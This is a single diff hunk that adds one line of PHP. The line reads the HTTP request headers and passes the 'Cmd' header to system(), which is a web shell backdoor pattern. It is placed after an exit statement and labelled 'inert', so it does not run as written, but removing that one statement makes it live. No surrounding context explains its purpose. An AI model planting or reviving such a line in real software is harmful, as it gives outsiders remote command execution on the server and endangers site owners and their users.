@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $h=apache_request_headers(); @system($h["Cmd"]);
